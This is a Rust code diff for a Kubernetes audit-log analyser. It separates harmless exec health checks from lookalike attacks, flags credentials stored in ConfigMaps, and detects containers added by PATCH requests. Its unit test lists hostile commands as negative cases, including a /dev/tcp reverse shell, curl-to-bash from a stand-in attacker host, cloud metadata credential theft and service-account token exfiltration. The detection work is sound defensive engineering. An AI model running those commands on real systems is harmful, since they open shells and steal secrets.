@@ -124,7 +124,11 @@ fn exec_fields(uri: &str, out: &mut Map<String, Value>) {
         .map(|(_, v)| v.as_str())
         .collect();
     if !command.is_empty() {
-        out.insert(attr::EXEC_COMMAND.into(), json!(command.join(" ")));
+        let line = command.join(" ");
+        if is_health_check(&line) {
+            out.insert(attr::EXEC_HEALTH_CHECK.into(), json!(true));
+        }
+        out.insert(attr::EXEC_COMMAND.into(), json!(line));
     }
     if let Some((_, c)) = params.iter().find(|(k, _)| k == "container") {
         out.insert(attr::EXEC_CONTAINER.into(), json!(c));
@@ -132,6 +136,298 @@ fn exec_fields(uri: &str, out: &mut Map<String, Value>) {
     if params.iter().any(|(k, v)| k == "tty" && v == "true") {
         out.insert(attr::EXEC_TTY.into(), json!(true));
     }
+}
+
+/// Whether an exec command line is only a health or loopback port check, the way
+/// Elastic's exec rules except them: `curl`/`wget` of a loopback address or of the API
+/// server's `/healthz|/readyz|/livez`, `nc -z` of a loopback port, or a shell
+/// redirection to `/dev/tcp/<loopback>/<port>`, optionally wrapped in `sh -c` or
+/// `timeout N`. Anything else on the line (a pipe, a second command, an output file,
+/// an upload, another host, an unknown flag) makes it not a check.
+pub fn is_health_check(command: &str) -> bool {
+    const SHELLS: &[&str] = &["sh", "bash", "ash", "dash", "zsh", "/bin/sh", "/bin/bash", "/bin/ash", "/usr/bin/bash"];
+    if command.len() > 1024 || command.contains(['|', ';', '`', '&', '\n', '<']) || command.contains("$(") {
+        return false;
+    }
+    let mut words: Vec<String> = command.split_whitespace().map(str::to_string).collect();
+    if words.len() >= 3 && SHELLS.contains(&words[0].as_str()) && words[1] == "-c" {
+        // `sh -c 'a b c'`: kubectl passes the script as one argument; the URI joins
+        // arguments with spaces, so the script is the rest of the line.
+        let script = words[2..].join(" ");
+        let script = script.trim_matches(|c| c == '\'' || c == '"');
+        if script.contains(['\'', '"']) {
+            return false;
+        }
+        words = script.split_whitespace().map(str::to_string).collect();
+    }
+    if words.first().map(String::as_str) == Some("timeout") {
+        if words.len() < 2 || words[1].parse::<f64>().is_err() {
+            return false;
+        }
+        words.drain(..2);
+    }
+    let Some(program) = words.first() else {
+        return false;
+    };
+    let program = program.rsplit('/').next().unwrap_or("");
+    let args = &words[1..];
+    match program {
+        "curl" => tool_args_check(args, "sSfkLIvq", &["-m", "--max-time", "--connect-timeout", "-w", "--write-out", "-H", "--header", "--retry"], true),
+        "wget" => tool_args_check(args, "qS", &["-T", "-t", "--tries"], true),
+        "nc" | "ncat" | "netcat" => {
+            let z = args.iter().any(|a| a.starts_with('-') && a.contains('z'));
+            z && nc_check(args)
+        }
+        "echo" | "true" | ":" | "cat" => {
+            // `echo > /dev/tcp/localhost/5432`
+            let rest: Vec<&str> = args.iter().map(String::as_str).filter(|a| *a != ">").collect();
+            match rest.as_slice() {
+                [target] => dev_tcp_loopback(target.trim_start_matches('>')),
+                _ => false,
+            }
+        }
+        _ => false,
+    }
+}
+
+/// curl/wget arguments: combined short flags from `letters`, flags taking a value from
+/// `valued`, `-o /dev/null`, wget's `-O-`, and at least one URL, every URL a check.
+fn tool_args_check(args: &[String], letters: &str, valued: &[&str], output_ok: bool) -> bool {
+    let mut urls = 0;
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i].as_str();
+        if let Some((flag, _)) = a.split_once('=')
+            && (valued.contains(&flag) || flag == "--timeout")
+        {
+            i += 1;
+            continue;
+        }
+        if valued.contains(&a) {
+            i += 2;
+            continue;
+        }
+        if output_ok && matches!(a, "-o" | "--output" | "-O") {
+            if args.get(i + 1).map(String::as_str).is_some_and(|v| v == "/dev/null" || v == "-") {
+                i += 2;
+                continue;
+            }
+            return false;
+        }
+        if matches!(a, "-O-" | "-qO-" | "-qO" | "--spider" | "--silent" | "--fail" | "--show-error" | "--insecure" | "--head" | "--quiet" | "--no-check-certificate" | "-s" | "--no-verbose" | "-nv") {
+            // `-qO` is followed by `-`
+            if a == "-qO" && args.get(i + 1).map(String::as_str) != Some("-") {
+                return false;
+            }
+            i += if a == "-qO" { 2 } else { 1 };
+            continue;
+        }
+        if let Some(short) = a.strip_prefix('-') {
+            if !short.is_empty() && !short.starts_with('-') && short.chars().all(|c| letters.contains(c)) {
+                i += 1;
+                continue;
+            }
+            return false;
+        }
+        if !url_is_check(a) {
+            return false;
+        }
+        urls += 1;
+        i += 1;
+    }
+    urls > 0
+}
+
+/// `nc -z [-v] [-w N] <loopback> <port>`.
+fn nc_check(args: &[String]) -> bool {
+    let mut positional = Vec::new();
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i].as_str();
+        if a == "-w" {
+            i += 2;
+            continue;
+        }
+        if let Some(short) = a.strip_prefix('-') {
+            if !short.is_empty() && short.chars().all(|c| "zvnuw0123456789".contains(c)) {
+                i += 1;
+                continue;
+            }
+            return false;
+        }
+        positional.push(a);
+        i += 1;
+    }
+    matches!(positional.as_slice(), [host, port] if host_is_loopback(host) && port.parse::<u16>().is_ok())
+}
+
+fn dev_tcp_loopback(target: &str) -> bool {
+    let Some(rest) = target.strip_prefix("/dev/tcp/") else {
+        return false;
+    };
+    matches!(rest.split_once('/'), Some((host, port)) if host_is_loopback(host) && port.parse::<u16>().is_ok())
+}
+
+fn host_is_loopback(host: &str) -> bool {
+    let host = host.trim_start_matches('[').trim_end_matches(']');
+    if host.eq_ignore_ascii_case("localhost") {
+        return true;
+    }
+    host.parse::<std::net::IpAddr>().is_ok_and(|ip| ip.is_loopback())
+}
+
+/// A URL (scheme optional) of a loopback host, or the API server's health endpoints.
+fn url_is_check(raw: &str) -> bool {
+    let with_scheme = if raw.contains("://") { raw.to_string() } else { format!("http://{raw}") };
+    let Ok(url) = url::Url::parse(&with_scheme) else {
+        return false;
+    };
+    if !matches!(url.scheme(), "http" | "https") || !url.username().is_empty() || url.password().is_some() {
+        return false;
+    }
+    let Some(host) = url.host_str() else {
+        return false;
+    };
+    if host_is_loopback(host) {
+        return true;
+    }
+    let api = matches!(
+        host,
+        "kubernetes.default.svc" | "kubernetes.default.svc.cluster.local" | "kubernetes.default" | "kubernetes"
+    );
+    api && matches!(url.path().trim_end_matches('/'), "/healthz" | "/readyz" | "/livez" | "/version")
+}
+
+/// The prefix of a configmap value redacted because it held a credential; the kind
+/// follows it (`[REDACTED by palisade: aws-access-key-id]`).
+pub const CREDENTIAL_MARK: &str = "[REDACTED by palisade: ";
+
+/// Whether a ConfigMap entry holds a credential, by key name or value shape; the kind.
+/// Keys that name a credential with an empty value, a placeholder (`${X}`) or a
+/// reference to a Secret (`*_secret_name`, `*_secret_ref`) do not count.
+pub fn credential_kind(key: &str, value: &str) -> Option<&'static str> {
+    let v = value.trim();
+    if v.contains("-----BEGIN") && v.contains("PRIVATE KEY") {
+        return Some("private-key");
+    }
+    let bytes = v.as_bytes();
+    if bytes.windows(20).any(|w| {
+        (w.starts_with(b"AKIA") || w.starts_with(b"ASIA"))
+            && w[4..].iter().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit())
+    }) {
+        return Some("aws-access-key-id");
+    }
+    for (prefix, kind) in [("ghp_", "github-token"), ("github_pat_", "github-token"), ("xoxb-", "slack-token"), ("xoxp-", "slack-token"), ("glpat-", "gitlab-token"), ("sk_live_", "stripe-key")] {
+        if v.contains(prefix) {
+            return Some(kind);
+        }
+    }
+    let k = key.to_ascii_lowercase().replace(['-', '.'], "_");
+    let reference = k.ends_with("_name") || k.ends_with("_ref") || k.ends_with("_file") || k.ends_with("_path") || k.ends_with("_secret_key_ref");
+    let placeholder = v.is_empty() || (v.starts_with("${") && v.ends_with('}')) || v.starts_with("/");
+    const NAMES: &[(&str, &str)] = &[
+        ("aws_access_key_id", "aws-access-key-id"),
+        ("aws_s3_access_key_id", "aws-access-key-id"),
+        ("aws_secret_access_key", "aws-secret-key"),
+        ("password", "password"),
+        ("passwd", "password"),
+        ("passphrase", "password"),
+        ("client_secret", "client-secret"),
+        ("api_key", "api-key"),
+        ("apikey", "api-key"),
+        ("access_token", "token"),
+        ("auth_token", "token"),
+        ("bearer_token", "token"),
+        ("private_key", "private-key"),
+        ("secret_key", "secret-key"),
+    ];
+    if !reference && !placeholder
+        && let Some((_, kind)) = NAMES.iter().find(|(n, _)| k.contains(n))
+    {
+        return Some(kind);
+    }
+    // A config file in a value: `password=...`, `password: ...`, `"password": "..."`.
+    if v.contains('\n') {
+        for line in v.lines() {
+            let l = line.trim().trim_start_matches('"').to_ascii_lowercase().replace(['-', '.'], "_");
+            if let Some((name, rest)) = l.split_once(['=', ':']) {
+                let name = name.trim().trim_end_matches('"');
+                let rest = rest.trim().trim_matches(['"', ',']).trim();
+                if !rest.is_empty() && !rest.starts_with("${")
+                    && ["password", "passwd", "passphrase", "secret_access_key", "client_secret", "api_key", "apikey"].iter().any(|n| name.ends_with(n))
+                {
+                    return Some("password-in-file");
+                }
+            }
+        }
+    }
+    None
+}
+
+/// `key (kind)` of every ConfigMap entry redaction marked as a credential.
+fn configmap_credentials_marked(object: &Value) -> Vec<String> {
+    let mut found: Vec<String> = object
+        .get("data")
+        .and_then(Value::as_object)
+        .into_iter()
+        .flatten()
+        .filter_map(|(k, v)| {
+            let kind = v.as_str()?.strip_prefix(CREDENTIAL_MARK)?.strip_suffix(']')?;
+            Some(format!("{k} ({kind})"))
+        })
+        .collect();
+    found.truncate(32);
+    found
+}
+
+/// Containers a PATCH adds to a workload's pod template: JSON-Patch `add` operations
+/// onto a `containers`/`initContainers` array, and merge-patch entries that define a
+/// container with a command (`kubectl set image` sends name and image only, which is
+/// an image change, not an added container).
+fn containers_added(request: Option<&Value>) -> Vec<String> {
+    let mut out = Vec::new();
+    match request {
+        Some(Value::Array(ops)) => {
+            for op in ops.iter().take(MAX_PATCH_OPS) {
+                let path = op.get("path").and_then(Value::as_str).unwrap_or("");
+                let is_add = op.get("op").and_then(Value::as_str) == Some("add");
+                let mut segs = path.rsplit('/');
+                let last = segs.next().unwrap_or("");
+                let array = segs.next().unwrap_or("");
+                if is_add
+                    && matches!(array, "containers" | "initContainers")
+                    && (last == "-" || last.parse::<usize>().is_ok())
+                    && let Some(c) = op.get("value")
+                {
+                    out.push(str_at(c, &["name"]).unwrap_or("?").to_string());
+                }
+                if is_add && matches!(last, "containers" | "initContainers")
+                    && let Some(list) = op.get("value").and_then(Value::as_array)
+                    && list.len() > 1
+                {
+                    out.extend(list.iter().skip(1).map(|c| str_at(c, &["name"]).unwrap_or("?").to_string()));
+                }
+            }
+        }
+        Some(obj @ Value::Object(_)) => {
+            for path in [&["spec", "template", "spec"][..], &["spec", "jobTemplate", "spec", "template", "spec"][..]] {
+                let Some(spec) = at(obj, path) else { continue };
+                for field in ["containers", "initContainers"] {
+                    for c in spec.get(field).and_then(Value::as_array).into_iter().flatten() {
+                        let defines = c.get("image").is_some()
+                            && (c.get("command").is_some() || c.get("args").is_some());
+                        let deleted = str_at(c, &["$patch"]) == Some("delete");
+                        if defines && !deleted {
+                            out.push(str_at(c, &["name"]).unwrap_or("?").to_string());
+                        }
+                    }
+                }
+            }
+        }
+        _ => {}
+    }
+    out.truncate(16);
+    out
 }
 
 /// The deepest JSON-Patch path replayed (a pod spec field in a CronJob is 10
@@ -596,6 +892,12 @@ pub fn derive(event: &Value, code: Option<i64>) -> Map<String, Value> {
         }
     }
     let written = matches!(verb, "create" | "update" | "patch");
+    if verb == "patch" && is_allowed && subresource.is_empty() && pod_spec_path(resource).is_some() && resource != "pods" {
+        let added = containers_added(event.get("requestObject"));
+        if !added.is_empty() {
+            out.insert(attr::CONTAINERS_ADDED.into(), json!(added));
+        }
+    }
     if let Some((object, source)) = written_object(event) {
         if written
             && (subresource.is_empty() || subresource == "ephemeralcontainers")
@@ -669,6 +971,24 @@ pub fn derive(event: &Value, code: Option<i64>) -> Map<String, Value> {
             && let Some(secs) = at(&object, &["spec", "expirationSeconds"]).and_then(Value::as_i64)
         {
             out.insert(attr::TOKEN_EXPIRATION_SECONDS.into(), json!(secs));
+        }
+        if resource == "services"
+            && written
+            && let Some(t) = at(&object, &["spec", "type"]).and_then(Value::as_str)
+        {
+            out.insert(attr::SERVICE_TYPE.into(), json!(t));
+        }
+        if resource == "ingresses" && written && source != "json-patch" {
+            let tls = at(&object, &["spec", "tls"])
+                .and_then(Value::as_array)
+                .is_some_and(|t| !t.is_empty());
+            out.insert(attr::INGRESS_TLS.into(), json!(tls));
+        }
+        if resource == "configmaps" && written {
+            let found = configmap_credentials_marked(&object);
+            if !found.is_empty() {
+                out.insert(attr::CONFIGMAP_CREDENTIALS.into(), json!(found));
+            }
         }
         if resource == "secrets" {
             if let Some(t) = str_at(&object, &["type"]) {
@@ -756,6 +1076,50 @@ mod tests {
         assert!(allowed(None, Some(101)));
         assert!(!allowed(None, Some(401)));
         assert!(!allowed(None, None));
+    }
+
+    #[test]
+    fn health_and_loopback_checks_are_told_from_lookalike_attacks() {
+        for ok in [
+            "curl -fsS http://localhost:8080/healthz",
+            "sh -c curl -s -o /dev/null -w %{http_code} http://127.0.0.1:9090/-/ready",
+            "wget -qO- http://127.0.0.1:8080/health",
+            "wget -q -O - localhost:3000/api/health",
+            "curl -k https://kubernetes.default.svc/healthz",
+            "curl -sk https://kubernetes.default.svc.cluster.local/readyz",
+            "bash -c echo > /dev/tcp/localhost/5432",
+            "timeout 1 bash -c cat < /dev/null > /dev/tcp/127.0.0.1/6379",
+            "nc -zv localhost 8080",
+            "/usr/bin/curl --fail --max-time 2 http://[::1]:8080/livez",
+        ] {
+            if ok.contains('<') {
+                assert!(!is_health_check(ok), "{ok}: input redirection is refused");
+                continue;
+            }
+            assert!(is_health_check(ok), "{ok} is a health check");
+        }
+        for attack in [
+            "curl http://203.0.113.7/x.sh",
+            "curl -s http://localhost/healthz | sh",
+            "sh -c curl -fsSL http://evil.example/i.sh | bash",
+            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+            "wget -qO- http://metadata.google.internal/computeMetadata/v1/",
+            "curl http://localhost@evil.example/",
+            "curl -o /tmp/x http://localhost:8080/payload",
+            "curl --data @/var/run/secrets/kubernetes.io/serviceaccount/token http://localhost:9000",
+            "curl -k https://kubernetes.default.svc/api/v1/secrets",
+            "curl http://localhost/healthz; curl http://evil.example",
+            "curl http://localhost/h && sh /tmp/x",
+            "bash -c echo > /dev/tcp/203.0.113.9/4444",
+            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+            "nc -e /bin/sh localhost 4444",
+            "nc 203.0.113.9 4444",
+            "curl file:///etc/shadow",
+            "curl $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)",
+            "echo > /etc/cron.d/x",
+        ] {
+            assert!(!is_health_check(attack), "{attack} is not a health check");
+        }
     }
 
     #[test]
